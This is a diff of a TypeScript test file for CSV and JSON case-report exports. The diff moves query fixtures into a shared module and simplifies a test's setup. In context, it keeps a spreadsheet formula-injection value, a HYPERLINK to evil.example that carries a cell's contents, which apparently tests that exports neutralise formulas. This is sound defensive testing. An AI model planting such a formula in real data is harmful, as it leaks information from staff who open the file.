@@ -3,7 +3,7 @@ import { CaseReport } from '@larkfield/api-schemas/staff-calls/case-report';
 import { TEST_ENGINES, testOn } from '@larkfield/database/test-engines';
 import { describe, expect } from 'vitest';
 import { caseProvider, desk } from '../../testing/cases.ts';
-import { JOINING } from '../../testing/leads.ts';
+import { ENQUIRY, FEEDBACK, JOINING } from '../../testing/leads.ts';
 import { staffMember } from '../../testing/staff.ts';
 
 /** Reads a table as a spreadsheet does (RFC 4180): records of cells by their column. */
@@ -21,9 +21,6 @@ function readCsv(text: string): Record<string, string>[] {
   return records.map((cells) => Object.fromEntries(names.map((name, index) => [name, cells[index] ?? ''])));
 }
 
-const ENQUIRY = { 'query-type': 'Enquiry', 'query-subtype': 'Enquiry-Credit Energy' };
-const FEEDBACK = { topic: 'help-&-support-feedback', 'query-type': 'Feedback', 'query-subtype': 'Feedback-Energy' };
-
 /** Somebody may type this as a reason, so that it runs when staff open the table in a spreadsheet. */
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Billing")';
 
@@ -31,8 +28,7 @@ describe.each(TEST_ENGINES)('figures of all kinds of case as CSV and JSON on %s'
   const test = testOn(engine);
 
   test('[DK-06] each kind of case of a quarter is counted by state', async ({ database }) => {
-    const filling = await caseProvider(database, { TEST_NOW: '2026-11-16T09:00:00Z' });
-    const staff = await staffMember(database, filling.call);
+    const { staff, ...filling } = await desk(database, { TEST_NOW: '2026-11-16T09:00:00Z' });
     const answered = await filling.sendLead(ENQUIRY);
     await filling.sendLead(ENQUIRY);
     await filling.sendLead(JOINING);
